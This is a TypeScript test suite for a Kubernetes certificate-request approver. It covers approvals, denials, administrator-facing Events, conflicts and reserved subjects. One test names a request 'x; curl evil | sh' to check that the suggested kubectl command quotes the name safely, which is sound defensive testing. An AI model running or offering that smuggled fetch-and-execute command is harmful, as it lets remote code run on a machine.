// SPDX-License-Identifier: Apache-2.0
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ClusterSigner, RequestsSpec } from '#api/signer/cluster-signer.ts';
import type { CertificateSigningRequest } from '#api/request/csr.ts';
import { createActor } from '#requests/approver/act.ts';
import { eventBody } from '#kube/events/body.ts';
import { KubeError } from '#kube/client/kube-error.ts';
import { resource } from '#kube/resource/resource.ts';
import { compilePolicy } from '#ca/policy/compile-policy.ts';
import type { RequestOutcome } from '#requests/loop/outcome.ts';
import { CN, O, OWN_NAME, made, specOf, type Wanted } from '../../ca/policy/request.ts';
import {
  recordedComponent,
  type RecordedComponent,
} from '../../support/component/recorded-component.ts';
import { teamSigner } from '../../support/signers/namespaced-signer.ts';
import { workload } from '../../support/signers/workload-profile.ts';

const REQUESTS = resource({
  group: 'certificates.k8s.io',
  version: 'v1',
  plural: 'certificatesigningrequests',
});
const BOB: Wanted = { subject: [[CN, 'bob']] };
const NO_BOB = { name: 'no-bob', when: "csr.subject.commonName == 'bob'", message: 'not bob' };

function start(
  wanted: Wanted,
  requests: RequestsSpec = OWN_NAME,
  name = 'jane-1',
): {
  readonly component: RecordedComponent;
  readonly csr: CertificateSigningRequest;
  readonly handle: (signer?: ClusterSigner) => Promise<RequestOutcome>;
} {
  const component = recordedComponent({ name: 'approver', clock: () => Date.UTC(2026, 10, 21, 9) });
  const policyOf = () => compilePolicy(specOf(requests));
  const handle = createActor({ component, resource: REQUESTS, policyOf });
  const { csr: asked } = made(wanted);
  const csr = { ...asked, metadata: { ...asked.metadata, name } };
  component.client.answer(() => ({ metadata: { ...csr.metadata, resourceVersion: '2' } }));
  return { component, csr, handle: (signer = workload()) => handle(csr, signer) };
}

/** The one request that was written. */
function written({ client }: RecordedComponent): CertificateSigningRequest {
  const [put] = client.requests;
  assert.equal(client.requests.length, 1);
  assert.equal(put?.method, 'PUT');
  assert.equal(put.path, '/apis/certificates.k8s.io/v1/certificatesigningrequests/jane-1/approval');
  return JSON.parse(JSON.stringify(put.body)) as CertificateSigningRequest;
}

test('an approval is one PUT to /approval with the resourceVersion that was judged', async () => {
  const { component, csr, handle } = start({});
  const outcome = await handle();
  assert.deepEqual([outcome.outcome, outcome.reason], ['approved', 'ApprovedByRule']);
  assert.equal(outcome.event, undefined);
  const { metadata, spec, status } = written(component);
  assert.deepEqual(metadata, csr.metadata);
  assert.equal(spec, undefined, 'the API server keeps its own');
  // What it now is to us: as decided, in the version of the answer.
  const now = { ...csr, metadata: { ...metadata, resourceVersion: '2' }, status };
  assert.deepEqual(outcome.written, now);
  assert.deepEqual(status?.conditions, [
    {
      type: 'Approved',
      status: 'True',
      reason: 'ApprovedByRule',
      message: 'own-name: allows the whole request',
      lastUpdateTime: '2026-11-21T09:00:00Z',
      lastTransitionTime: '2026-11-21T09:00:00Z',
    },
  ]);
});

test('a denial is one PUT to /approval, with an Event', async () => {
  const { component, handle } = start(BOB, { ...OWN_NAME, deny: [NO_BOB] });
  const outcome = await handle();
  assert.deepEqual([outcome.outcome, outcome.reason], ['denied', 'DeniedByRule']);
  const [condition, ...more] = written(component).status?.conditions ?? [];
  assert.deepEqual([condition?.type, condition?.status, more], ['Denied', 'True', []]);
  assert.match(condition?.message ?? '', /^no-bob: not bob; own-name: /);
  assert.deepEqual([outcome.event?.type, outcome.event?.reason], ['Warning', 'DeniedByRule']);
  assert.equal(outcome.event?.note, condition?.message);
});

test('a request that matches no rule gets an Event with how a person decides, no write', async () => {
  const { component, handle } = start(BOB);
  const { outcome, reason, event, written: none } = await handle();
  assert.deepEqual([outcome, reason, none], ['undecided', 'NoRuleMatched', undefined]);
  assert.deepEqual(component.client.requests, []);
  assert.equal(event?.type, 'Normal');
  assert.match(
    event.note,
    /^an administrator may decide: kubectl certificate approve jane-1; own-name: /,
  );
  assert.match(event.note, /own-name: does not apply/);
});

test('the Event explains how a person decides, however many rules there are', async () => {
  const rules = Array.from({ length: 32 }, (_none, index) => ({
    name: `rule-${String(index)}`,
    when: 'false',
    allow: {},
  }));
  const { event } = await start(BOB, { copy: ['commonName'], rules }).handle();
  assert.ok(event !== undefined);
  const regarding = { apiVersion: 'v1', kind: 'Thing', name: 'jane-1' };
  const from = { name: 'n', namespace: 'default', controller: 'c', instance: 'i', now: 0 };
  const { note } = eventBody({ ...event, regarding }, from) as { note: string };
  assert.ok(Buffer.byteLength(note) <= 1024);
  assert.match(note, /kubectl certificate approve jane-1\b/);
});

test('a name that holds a command is one word of the command that the Event names', async () => {
  const { event } = await start(BOB, OWN_NAME, 'x; curl evil | sh').handle();
  assert.match(event?.note ?? '', /approve 'csr\/x; curl evil \| sh';/);
});

test('a failed expression gives a Warning Event, and nothing is written', async () => {
  const deny = [{ name: 'unsure', when: "request.extra['a'][0] == 'b'", message: 'no' }];
  const { component, handle } = start({}, { ...OWN_NAME, deny });
  const { outcome, reason, event } = await handle();
  assert.deepEqual([outcome, reason, event?.type], ['undecided', 'EvaluationError', 'Warning']);
  assert.deepEqual(component.client.requests, []);
});

test('without rules nothing is written, and no Event is recorded', async () => {
  const { component, handle } = start(BOB, { copy: ['commonName'] });
  assert.deepEqual(await handle(), { outcome: 'ignored', reason: '' });
  assert.deepEqual(component.client.requests, []);
});

test('a request for more than is copied is approved with an Event that names it', async () => {
  const copyless = { ...OWN_NAME, copy: ['commonName'] as const };
  const { handle } = start(
    {
      subject: [
        [CN, 'jane'],
        [O, 'dev'],
      ],
      groups: ['dev'],
    },
    copyless,
  );
  const { outcome, event } = await handle();
  assert.equal(outcome, 'approved');
  assert.equal(event?.reason, 'LessThanRequested');
  assert.match(event.note, /no organizations "dev": spec\.requests\.copy does not list/);
});

test('an Event tells an approver by hand what the certificate would lack', async () => {
  const { handle } = start({ dnsNames: ['a.example.com'] });
  const { outcome, event } = await handle();
  assert.equal(outcome, 'undecided');
  assert.match(event?.note ?? '', /certificate would have no dnsNames "a\.example\.com"/);
});

test('a conflict is thrown, to be retried', async () => {
  const { component, handle } = start({});
  component.client.answer(() => {
    throw new KubeError({ status: 409, what: 'PUT', body: { reason: 'Conflict' } });
  });
  await assert.rejects(handle(), { code: 'KUBE_CONFLICT', disposition: 'retry' });
  assert.equal(component.client.requests.length, 1);
});

test('a request older than its Signer is neither approved nor denied', async () => {
  const { component, csr, handle } = start({});
  const made = Date.parse(csr.metadata.creationTimestamp) + 60_000;
  const signer = teamSigner({ creationTimestamp: new Date(made).toISOString() });
  assert.equal((await handle(signer)).reason, 'OlderThanSigner');
  assert.deepEqual(component.client.requests, []);
});

test('a request that would fail gets a Warning before an approval, and no write', async () => {
  const { component, handle } = start(
    { subject: [[CN, 'system:admin']] },
    { copy: ['commonName'] },
  );
  const { outcome, reason, event } = await handle();
  assert.deepEqual([outcome, reason], ['undecided', 'ReservedSubject']);
  assert.deepEqual([event?.type, event?.action], ['Warning', 'Approve']);
  assert.match(event?.note ?? '', /^if approved, it fails: .*"system:admin".*do not approve it/);
  assert.deepEqual(component.client.requests, []);
});
